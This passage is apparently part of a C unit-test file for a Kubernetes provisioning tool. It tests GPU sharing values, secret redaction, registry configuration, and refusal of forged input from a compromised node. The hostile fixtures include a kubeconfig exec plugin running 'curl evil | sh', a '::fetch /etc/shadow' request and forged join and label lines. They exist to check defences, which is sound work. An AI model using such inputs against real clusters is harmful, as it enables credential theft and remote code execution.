	assert_string_equal(tval_lookup(v, "gpu.host_driver")->str, "");
	assert_int_equal(template_render_text("values.yaml.tmpl", tmpl.buf, tmpl.len, v, &out, &err), 0);
	assert_non_null(strstr(out.buf, "#   (no GPU node)\n"));
	tval_free(v);
	strbuf_release(&tmpl);
	strbuf_release(&out);
}

/*
 * gpu_sharing: the device plugin's time-slicing configuration in the GPU
 * Operator's values (a ConfigMap the chart creates: a "default" without
 * sharing for every other node, one "shared-N" per factor used), and
 * gpu.sharing "NODE:GPUS:N" for the node-labels and validation steps.
 */
static void test_gpu_sharing_values(void **state)
{
	struct node n[3] = {{0}};
	const struct node *nodes[3] = {&n[0], &n[1], &n[2]};
	struct gpu g = {(char *)"NVIDIA GeForce RTX 3070", 8192, (char *)"535.154.05", NULL};
	struct gpu g2[2] = {{(char *)"NVIDIA GeForce RTX 2080 Ti", 11264, (char *)"535.154.05", NULL},
			    {(char *)"NVIDIA GeForce RTX 2080 Ti", 11264, (char *)"535.154.05", NULL}};
	struct facts f0 = {0}, f1 = {0}, f2 = {0};
	const struct facts *facts[3] = {&f0, &f1, &f2};
	struct strbuf tmpl = STRBUF_INIT, out = STRBUF_INIT;
	struct error err = {0};
	struct tval *v;
	const char *dp;

	(void)state;
	n[0].name = (char *)"b-2";
	n[1].name = (char *)"b-3";
	n[2].name = (char *)"b-4";
	n[0].gpus = n[1].gpus = n[2].gpus = 1;
	f0.gpus = f2.gpus = &g;
	f0.nr_gpus = f2.nr_gpus = 1;
	f1.gpus = g2;
	f1.nr_gpus = 2;
	f0.nvidia_smi = f1.nvidia_smi = f2.nvidia_smi = true;
	assert_int_equal(read_file("roles/gpu-operator/templates/values.yaml.tmpl", &tmpl), 0);

	/* nothing shared: no device plugin configuration at all */
	v = tval_new_map();
	plan_gpu_values(v, nodes, facts, 3);
	assert_string_equal(tval_lookup(v, "gpu.sharing")->str, "");
	assert_int_equal(template_render_text("values.yaml.tmpl", tmpl.buf, tmpl.len, v, &out, &err), 0);
	assert_non_null(strstr(out.buf, "devicePlugin:\n  enabled: true\ngfd:\n"));
	assert_null(strstr(out.buf, "timeSlicing"));
	tval_free(v);

	strbuf_reset(&out);
	n[1].gpu_sharing = 2;
	n[2].gpu_sharing = 4;
	v = tval_new_map();
	plan_gpu_values(v, nodes, facts, 3);
	assert_string_equal(tval_lookup(v, "gpu.sharing")->str, "b-3:2:2 b-4:1:4");
	assert_string_equal(tval_lookup(v, "gpu.nodes.2.sharing")->str, "4");
	assert_string_equal(tval_lookup(v, "gpu.nodes.0.sharing")->str, "");
	assert_int_equal(template_render_text("values.yaml.tmpl", tmpl.buf, tmpl.len, v, &out, &err), 0);
	dp = strstr(out.buf, "\ndevicePlugin:\n");
	assert_non_null(dp);
	assert_non_null(strstr(dp, "  config:\n"
				   "    create: true\n"
				   "    name: provision-device-plugin\n"
				   "    default: default\n"
				   "    data:\n"
				   "      default: |\n"
				   "        version: v1\n"
				   "      shared-2: |\n"
				   "        version: v1\n"
				   "        sharing:\n"
				   "          timeSlicing:\n"
				   "            resources:\n"
				   "              - name: nvidia.com/gpu\n"
				   "                replicas: 2\n"
				   "      shared-4: |\n"
				   "        version: v1\n"
				   "        sharing:\n"
				   "          timeSlicing:\n"
				   "            resources:\n"
				   "              - name: nvidia.com/gpu\n"
				   "                replicas: 4\n"
				   "gfd:\n"));
	assert_non_null(strstr(out.buf, "#   b-4: 1x \"NVIDIA GeForce RTX 3070\", host driver \"535.154.05\", shared by 4\n"));
	tval_free(v);

	/* two nodes with one factor: one configuration */
	strbuf_reset(&out);
	n[1].gpu_sharing = 4;
	v = tval_new_map();
	plan_gpu_values(v, nodes, facts, 3);
	assert_int_equal(template_render_text("values.yaml.tmpl", tmpl.buf, tmpl.len, v, &out, &err), 0);
	dp = strstr(out.buf, "      shared-4: |\n");
	assert_non_null(dp);
	assert_null(strstr(dp + 1, "      shared-4: |\n"));
	assert_null(strstr(out.buf, "shared-2"));
	tval_free(v);
	strbuf_release(&tmpl);
	strbuf_release(&out);
}

static void test_secrets_redact(void **state)
{
	struct secrets *s = secrets_new();
	struct strbuf sb = STRBUF_INIT;

	assert_int_equal(secrets_add(s, "abc", 3), -1);
	assert_int_equal(secrets_add(s, "s3cr3t-token", 12), 0);
	strbuf_addstr(&sb, "a s3cr3t-token b s3cr3t-tokens3cr3t-token c");
	secrets_redact(s, &sb);
	assert_string_equal(sb.buf, "a [secret] b [secret][secret] c");
	strbuf_release(&sb);
	secrets_free(s);
}

/*
 * Issue 31 F4, F9: a failing step's last line with terminal escapes (OSC
 * title, screen clear, CSI, an 8-bit CSI), a byte that is not UTF-8 and a
 * registered secret split by an escape.  Before: all of it, raw, in the
 * node's reason and the step's detail (the summary, JUnit, the record)
 * and the secret whole once a terminal dropped the escape.  Now: cleaned
 * and redacted where it enters.
 */
static void assert_clean(const char *what, const char *s)
{
	if (!s)
		return;
	if (text_unsafe(s, strlen(s)) && strchr(s, '\n') == NULL)
		fail_msg("%s holds unsafe text: %s", what, s);
	if (strchr(s, '\033') || strstr(s, "\302\233") || strchr(s, '\377'))
		fail_msg("%s holds an escape or a bad byte", what);
	if (strstr(s, SECRET_VALUE))
		fail_msg("%s holds the secret", what);
}

static void test_hostile_failure_text(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct plan_result res;
	struct collected c;
	const struct plan_node *pn;
	size_t k;

	fake_nodes[2].fail_apply = true; /* w-2 */
	fake_nodes[2].fail_line = "E: \033]0;pwned\007\033[2Jgone \302\23331m red \377\376 "
				  "hunter2-Super\033[0mSecret-0042 end";
	execute(f, false, sec, &c, &res);
	assert_int_equal(res.status[2].state, NODE_FAILED);
	assert_clean("the node's reason", res.status[2].reason);
	assert_non_null(strstr(res.status[2].reason, "E: gone ?31m red ?? [secret] end"));
	pn = &res.nodes[2];
	for (k = 0; k < pn->nr_steps; k++)
		assert_clean("a step's detail", pn->steps[k].detail);
	assert_non_null(strstr(c.all.buf, "E: gone ?31m red ?? [secret] end"));
	assert_null(strchr(c.all.buf, '\033'));
	assert_null(strstr(c.all.buf, SECRET_VALUE));
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

static void test_scrub(void **state)
{
	struct secrets *s = secrets_new();
	struct strbuf sb = STRBUF_INIT;
	struct error err = {0};
	char *str;

	(void)state;
	assert_int_equal(secrets_add(s, "s3cr3t-token", 12), 0);
	assert_int_equal(secrets_add(s, "tab\tsecret-1", 12), 0);
	/* clean lines are left byte for byte (a TAB too); a line with an escape is cleaned */
	strbuf_addstr(&sb, "a\tb\nx s3cr3t-\033[1mtoken y\n\302\205nel\ntab\tsecret-1 \033[m");
	secrets_scrub(s, &sb);
	assert_string_equal(sb.buf, "a\tb\nx [secret] y\n?nel\n[secret] ");
	strbuf_release(&sb);
	str = xstrdup("plain text");
	secrets_scrub_str(NULL, &str);
	assert_string_equal(str, "plain text");
	free(str);
	str = xstrdup("bad \xff byte");
	secrets_scrub_str(NULL, &str);
	assert_string_equal(str, "bad ? byte");
	free(str);
	/* what a node may register as a secret */
	assert_int_equal(secrets_handed_ok("failed", 6, &err), -1);
	assert_int_equal(secrets_handed_ok("failed failed failed", 20, &err), -1);
	assert_int_equal(secrets_handed_ok("1111111111111111a", 17, &err), -1);
	assert_int_equal(secrets_handed_ok("abcdef.0123456789\033[m", 22, &err), -1);
	assert_int_equal(secrets_handed_ok("abcdef.0123456789abcdef", 23, &err), 0);
	/* a bootstrap token without a digit (about 1 in 1300 of them) */
	assert_int_equal(secrets_handed_ok("kqxbwz.hvtrmpfldgscnjya", 23, &err), 0);
	assert_int_equal(secrets_handed_ok("could not reach the node", 24, &err), -1);
	assert_int_equal(secrets_handed_ok(SECRET_VALUE, strlen(SECRET_VALUE), &err), 0);
	secrets_free(s);
}

/* ---- a hostile node (issue 19): each test failed on the code before the exchange ---- */

static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/*
 * The lines of s sorted, into buf: the workers hand their values in
 * parallel, so the order the control plane reads them in is not fixed.
 */
static const char *sorted_lines(const char *s, char *buf, size_t size)
{
	char *copy = xstrdup(s), *lines[32], *p, *save = NULL;
	size_t n = 0, i;

	for (p = strtok_r(copy, "\n", &save); p && n < 32; p = strtok_r(NULL, "\n", &save))
		lines[n++] = p;
	qsort(lines, n, sizeof(*lines), cmp_str);
	buf[0] = '\0';
	for (i = 0; i < n; i++)
		snprintf(buf + strlen(buf), size - strlen(buf), "%s\n", lines[i]);
	free(copy);
	return buf;
}

static size_t node_index(const struct fixture *f, const char *name)
{
	size_t i;

	for (i = 0; i < f->nr; i++)
		if (!strcmp(f->nodes[i]->name, name))
			return i;
	fail_msg("no node %s", name);
	return 0;
}

/*
 * Finding 1: a worker hands a join command for another worker.  Before: the
 * last writer won run-wide and w-3 read w-2's command.  Now: w-2's step
 * fails with a protocol violation, w-3 reads the control plane's command.
 */
static void test_hostile_join_command(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct collected c = {.all = STRBUF_INIT};
	struct plan_result res;

	fake_find("w-2")->evil_gossip =
		"::secret join_command@w-3=kubeadm join 6.6.6.6:6443 --token evil.token0000";
	execute(f, false, sec, &c, &res);
	/* the secret reaches w-3 as a file of the step's folder, not in its environment */
	assert_string_equal(fake_find("w-3")->seen,
			    "secret join_command='kubeadm join 198.18.0.10:6443 --token "
			    "good.token0000'\n");
	assert_int_equal(res.status[node_index(f, "w-2")].state, NODE_FAILED);
	assert_int_equal(res.status[node_index(f, "w-3")].state, NODE_DONE);
	assert_non_null(strstr(c.all.buf, "protocol violation by node 'w-2' in gossip › 10-gossip: "
					  "'join_command' is not a value role 'gossip' hands"));
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

/*
 * Finding 1: a worker hands labels for another node (under its own name
 * and under one of its choosing).  Before: the control plane's labels step
 * read them.  Now: only each node's own labels reach it.
 */
static void test_hostile_labels(void **state)
{
	char buf[1024];
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct collected c = {.all = STRBUF_INIT};
	struct plan_result res;

	fake_find("w-2")->evil_joiner =
		"::set node_labels_pwn=cp provision.dev/pwned=by-w-2\n"
		"::set node_labels_w_2=cp node-role.kubernetes.io/control-plane-\n"
		"::set node_labels_w_1=w-1 provision.dev/pwned=by-w-2";
	execute(f, false, sec, &c, &res);
	assert_string_equal(sorted_lines(fake_find("cp")->seen, buf, sizeof(buf)),
			    "PROVISION_SET_node_labels_w_1='w-1 honest'\n"
			    "PROVISION_SET_node_labels_w_3='w-3 honest'\n");
	assert_int_equal(res.status[node_index(f, "w-2")].state, NODE_FAILED);
	assert_int_equal(res.status[node_index(f, "cp")].state, NODE_DONE);
	assert_non_null(strstr(c.all.buf, "protocol violation by node 'w-2' in joiner › 10-join"));
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

/*
 * Issue 31 F3: a line longer than 64 KiB whose byte 65536 starts a ::set,
 * then a ::set cut at 64 KiB.  Before: the transport handed the line on in
 * pieces and each was parsed as a line: the control plane read the forged
 * value (and then the cut one).  Now: a piece that continues a line is
 * output, and a protocol line too long to read fails the step; the control
 * plane reads only w-2's honest labels.
 */
static void test_hostile_long_line(void **state)
{
	char buf[1024];
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct collected c = {.all = STRBUF_INIT};
	struct plan_result res;
	struct strbuf evil = STRBUF_INIT;
	size_t i;

	for (i = 0; i < TRANSPORT_LINE_MAX; i++)
		strbuf_addch(&evil, 'x');
	strbuf_addstr(&evil, "::set node_labels_w_2=w-2 forged\n");
	fake_find("w-2")->evil_joiner = evil.buf;
	execute(f, false, sec, &c, &res);
	assert_string_equal(sorted_lines(fake_find("cp")->seen, buf, sizeof(buf)),
			    "PROVISION_SET_node_labels_w_1='w-1 honest'\n"
			    "PROVISION_SET_node_labels_w_2='w-2 honest'\n"
			    "PROVISION_SET_node_labels_w_3='w-3 honest'\n");
	assert_int_equal(res.status[node_index(f, "w-2")].state, NODE_DONE);
	plan_result_release(&res);
	strbuf_release(&c.all);

	strbuf_reset(&evil);
	strbuf_addstr(&evil, "::set node_labels_w_2=w-2 ");
	for (i = 0; i < TRANSPORT_LINE_MAX; i++)
		strbuf_addch(&evil, 'y');
	strbuf_addstr(&evil, "\n");
	fake_find("w-2")->evil_joiner = evil.buf;
	memset(fake_find("cp")->seen, 0, sizeof(fake_find("cp")->seen));
	execute(f, false, sec, &c, &res);
	assert_int_equal(res.status[node_index(f, "w-2")].state, NODE_FAILED);
	assert_non_null(strstr(c.all.buf, "protocol violation by node 'w-2' in joiner › 10-join: a "
					  "protocol line ('::…') longer than 64 KiB"));
	assert_null(strstr(c.all.buf, "yyyyyyyy")); /* the rest of it is not output either */
	assert_null(strstr(fake_find("cp")->seen, "yyy"));
	fake_find("w-2")->evil_joiner = NULL;
	plan_result_release(&res);
	strbuf_release(&c.all);
	strbuf_release(&evil);
	secrets_free(sec);
}

/*
 * Finding 3: a ::set line in a node's facts.  Before: a NULL dereference
 * (provision exited 139).  Now: that node's facts fail, the others go on.
 */
static void test_hostile_facts_protocol(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct collected c = {.all = STRBUF_INIT};
	struct plan_result res;

	fake_find("w-1")->evil_facts = "::set node_labels_w_1=cp pwned\n::fetch /etc/shadow admin.conf";
	execute(f, false, sec, &c, &res);
	assert_int_equal(res.status[node_index(f, "w-1")].state, NODE_FAILED);
	assert_false(res.nodes[node_index(f, "w-1")].have_facts);
	assert_int_equal(res.status[node_index(f, "w-3")].state, NODE_DONE);
	assert_non_null(strstr(c.all.buf, "protocol violation by node 'w-1' (facts): a protocol "
					  "line outside a role's step"));
	assert_null(strstr(fake_find("cp")->seen, "pwned"));
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

static char *read_private(const char *dir, const char *name)
{
	char *path = xasprintf("%s/private/%s", dir, name);
	struct strbuf sb = STRBUF_INIT;
	char *s = NULL;

	if (read_file(path, &sb) == 0)
		s = strbuf_detach(&sb, NULL);
	strbuf_release(&sb);
	free(path);
	return s;
}

/*
 * Finding 4: a worker ::fetch'es its own file as admin.conf, and `plan`
 * fetched too.  Before: private/admin.conf was the worker's, and plan
 * wrote it.  Now: the worker's step fails, admin.conf is the control
 * plane's, and plan writes nothing.
 */
static void test_hostile_fetch(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct collected c = {.all = STRBUF_INIT};
	struct plan_result res;
	const char *dir = f->state_dir;
	char *got;

	execute(f, true, sec, &c, &res); /* provision plan */
	assert_null(read_private(dir, "admin.conf"));
	plan_result_release(&res);
	strbuf_release(&c.all);

	fake_find("w-2")->evil_gossip = "::fetch /etc/evil admin.conf";
	fake_find("w-3")->evil_gossip = "::fetch /etc/kubernetes/admin.conf admin.conf";
	execute(f, false, sec, &c, &res);
	got = read_private(dir, "admin.conf");
	assert_non_null(got);
	assert_string_equal(got, KUBECONFIG_GOOD);
	assert_int_equal(res.status[node_index(f, "w-2")].state, NODE_FAILED);
	assert_int_equal(res.status[node_index(f, "w-3")].state, NODE_FAILED);
	assert_non_null(strstr(c.all.buf, "protocol violation by node 'w-2' in gossip › 10-gossip: "
					  "'admin.conf' is not a file role 'gossip' fetches"));
	free(got);
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

/*
 * Finding 6: a worker sends a common phrase as a ::secret.  Before: it was
 * redacted in every log.  Now: it is refused and never registered; the
 * control plane's declared secret still is.
 */
static void test_hostile_secret(void **state)
{
	struct fixture *f = *state;
	struct secrets *sec = secrets_new();
	struct collected c = {.all = STRBUF_INIT};
	struct plan_result res;
	struct strbuf line = STRBUF_INIT;

	fake_find("w-2")->evil_gossip = "::secret hide=kubeadm join";
	execute(f, false, sec, &c, &res);
	strbuf_addstr(&line, "kubeadm join 198.18.0.12:6443 --token good.token0000");
	secrets_redact(sec, &line);
	assert_string_equal(line.buf, "kubeadm join 198.18.0.12:6443 --token good.token0000");
	strbuf_reset(&line);
	strbuf_addstr(&line, "ran kubeadm join 198.18.0.10:6443 --token good.token0000");
	secrets_redact(sec, &line);
	assert_string_equal(line.buf, "ran [secret]");
	assert_int_equal(res.status[node_index(f, "w-2")].state, NODE_FAILED);
	strbuf_release(&line);
	plan_result_release(&res);
	strbuf_release(&c.all);
	secrets_free(sec);
}

/*
 * Issue 31 F7: the control plane's admin.conf names another server, or an
 * exec plugin.  Before: kept as it came (this machine's /readyz went there;
 * the admin's kubectl would run the command).  Now: the step fails, the copy
 * here is unchanged.
 */
static void test_hostile_kubeconfig(void **state)
{
	static const char *const evil[] = {
	    "apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: Q0EK\n"
	    "    server: https://203.0.113.9:6443\n  name: kubernetes\ncontexts:\n- context:\n"
	    "    cluster: kubernetes\n    user: kubernetes-admin\n  name: x\n"
	    "current-context: x\nkind: Config\nusers:\n- name: kubernetes-admin\n  user:\n"
	    "    client-certificate-data: Q0VSVAo=\n    client-key-data: S0VZCg==\n",
	    KUBECONFIG_HEAD "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n"
			    "      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n",
	    KUBECONFIG_HEAD "    auth-provider:\n      name: oidc\n",
	};
	struct fixture *f = *state;
	size_t k;

	for (k = 0; k < ARRAY_SIZE(evil); k++) {
		struct secrets *sec = secrets_new();
		struct collected c = {.all = STRBUF_INIT};
		struct plan_result res;
		char *got;

		fake_find("cp")->kubeconfig = evil[k];
		execute(f, false, sec, &c, &res);
		assert_int_equal(res.status[node_index(f, "cp")].state, NODE_FAILED);
		assert_non_null(strstr(
		    res.status[node_index(f, "cp")].reason,
		    "'admin.conf' (/etc/kubernetes/admin.conf) from node 'cp' is refused: "));
		got = read_private(f->state_dir, "admin.conf");
		if (got)
			fail_msg("kept: %s", got);
		plan_result_release(&res);
		strbuf_release(&c.all);
		secrets_free(sec);
	}
}

/*
 * cluster.registries and the proxy as roles/containerd renders them: the
 * containerd NO_PROXY, the drop-in, hosts.toml's order (mirrors, then the
 * upstream; with upstream: false the last mirror is the server and no
 * mirror comes twice), the credential as a placeholder only, the mode.
 */
static void test_registry_values(void **state)
{
	static const char text[] = "cluster:\n"
				   "  name: r\n"
				   "  kubernetes_version: \"1.30.4\"\n"
				   "  http_proxy: http://proxy.lab.example:3128\n"
				   "  no_proxy: [.lab.example, 198.18.0.2]\n"
				   "  registries:\n"
				   "    docker.io:\n"
				   "      mirrors:\n"
				   "        - {url: https://m1.lab.example, username: lab, password_file: pw}\n"
				   "        - {url: http://m2.lab.example:5000}\n"
				   "    registry.k8s.io:\n"
				   "      mirrors: [{url: https://a.lab.example, skip_verify: true}, {url: "
				   "http://b.lab.example:5000}]\n"
				   "      upstream: false\n"
				   "    ghcr.io:\n"
				   "      mirrors: [{url: http://g.lab.example:5000}]\n"
				   "      upstream: false\n"
				   "    quay.io:\n"
				   "      skip_verify: true\n"
				   "jupyterhub: {enabled: false}\n"
				   "nodes:\n"
				   "  - {name: cp, address: 198.18.0.1, roles: [control-plane, worker]}\n"
				   "  - {name: w, address: 198.18.0.2, roles: [worker]}\n";
	struct inventory *inv = NULL;
	struct diag_list dl;
	struct strbuf tmpl = STRBUF_INIT, out = STRBUF_INIT, np = STRBUF_INIT;
	struct error err = {0};
	struct tval *v;
	const char *dh, *k8s, *m1, *m2, *srv, *gh, *qy;

	(void)state;
	diag_list_init(&dl);
	assert_int_equal(inventory_load_buffer(&inv, "r.yaml", text, strlen(text), &dl), 0);
	diag_list_release(&dl);
	plan_containerd_no_proxy(inv, &np);
	assert_string_equal(np.buf, "localhost,127.0.0.1,::1,198.18.0.1,198.18.0.2,10.244.0.0/16,"
				    "10.96.0.0/12,.svc,.cluster.local,.lab.example");
	assert_int_equal(read_file("roles/containerd/templates/registry-files.tmpl", &tmpl), 0);
	v = plan_values(inv, &inv->nodes[0], NULL, NULL);
	assert_int_equal(template_render_text("registry-files.tmpl", tmpl.buf, tmpl.len, v, &out, &err), 0);
	assert_non_null(strstr(out.buf, "%% file /etc/systemd/system/containerd.service.d/http-proxy.conf "
					"0644\n"));
	assert_non_null(strstr(out.buf, "\"NO_PROXY=localhost,127.0.0.1,::1,198.18.0.1,198.18.0.2,"));
	dh = strstr(out.buf, "%% file /etc/containerd/certs.d/docker.io/hosts.toml 0600\n");
	k8s = strstr(out.buf, "%% file /etc/containerd/certs.d/registry.k8s.io/hosts.toml 0644\n");
	assert_non_null(dh);
	assert_non_null(k8s);
	assert_true(dh < k8s);
	/* docker.io: the upstream as server, the mirrors in order, a placeholder for the password */
	srv = strstr(dh, "server = \"https://registry-1.docker.io\"");
	m1 = strstr(dh, "[host.\"https://m1.lab.example\"]");
	m2 = strstr(dh, "[host.\"http://m2.lab.example:5000\"]");
	assert_true(srv && m1 && m2 && srv < m1 && m1 < m2 && m2 < k8s);
	assert_non_null(strstr(m1, "Authorization = \"@@PROVISION_SET_registry_auth_1_1@@\""));
	/* registry.k8s.io: mirrors only, the last one the server, none twice */
	assert_non_null(strstr(k8s, "server = \"http://b.lab.example:5000\""));
	assert_non_null(strstr(k8s, "[host.\"https://a.lab.example\"]\n  capabilities = [\"pull\", "
					"\"resolve\"]\n  skip_verify = true\n"));
	assert_null(strstr(k8s, "[host.\"http://b.lab.example:5000\"]"));
	assert_null(strstr(k8s, "registry.k8s.io\"\n"));
	/*
	 * A file without [host] table is refused by containerd 1.6 and 1.7
	 * ("invalid `host` tree"), which then pull from the upstream: one
	 * mirror with upstream: false, and the upstream alone, get theirs.
	 */
	gh = strstr(out.buf, "%% file /etc/containerd/certs.d/ghcr.io/hosts.toml 0644\n");
	qy = strstr(out.buf, "%% file /etc/containerd/certs.d/quay.io/hosts.toml 0644\n");
	assert_true(gh && qy && k8s < gh && gh < qy);
	assert_non_null(strstr(gh, "server = \"http://g.lab.example:5000\""));
	m1 = strstr(gh, "[host.\"http://g.lab.example:5000\"]\n  capabilities = [\"pull\", \"resolve\"]\n");
	assert_true(m1 && m1 < qy);
	assert_non_null(strstr(qy, "server = \"https://quay.io\""));
	assert_non_null(strstr(qy, "[host.\"https://quay.io\"]\n  capabilities = [\"pull\", "
				   "\"resolve\"]\n  skip_verify = true\n"));
	assert_null(strstr(dh, "[host.\"https://registry-1.docker.io\"]"));
	assert_null(strstr(k8s, "[host.\"http://b.lab.example:5000\"]"));
	tval_free(v);
	strbuf_release(&np);
	strbuf_release(&tmpl);
	strbuf_release(&out);
	inventory_free(inv);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_registry_values),
		cmocka_unit_test_setup_teardown(test_role_order, setup, teardown),
		cmocka_unit_test_setup_teardown(test_up_then_unchanged, setup, teardown),
		cmocka_unit_test_setup_teardown(test_failure_stops_only_its_node, setup, teardown),
		cmocka_unit_test_setup_teardown(test_wait_for_a_role_that_did_not_run, setup, teardown),
		cmocka_unit_test_setup_teardown(test_depends_on_a_skipped_role, setup_depends, teardown),
		cmocka_unit_test_setup_teardown(test_plan_changes_nothing, setup, teardown),
		cmocka_unit_test_setup_teardown(test_drift_not_installed, setup, teardown),
		cmocka_unit_test_setup_teardown(test_unreachable_node, setup, teardown),
		cmocka_unit_test_setup_teardown(test_check_leaves_nodes_done, setup, teardown),
		cmocka_unit_test_setup_teardown(test_facts_event, setup, teardown),
		cmocka_unit_test(test_phases),
		cmocka_unit_test(test_gpu_values),
		cmocka_unit_test(test_gpu_sharing_values),
		cmocka_unit_test(test_secrets_redact),
		cmocka_unit_test(test_scrub),
		cmocka_unit_test_setup_teardown(test_hostile_failure_text, setup, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_join_command, setup_exchange, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_labels, setup_exchange, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_long_line, setup_exchange, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_facts_protocol, setup_exchange, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_fetch, setup_exchange, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_kubeconfig, setup_exchange, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_secret, setup_exchange, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
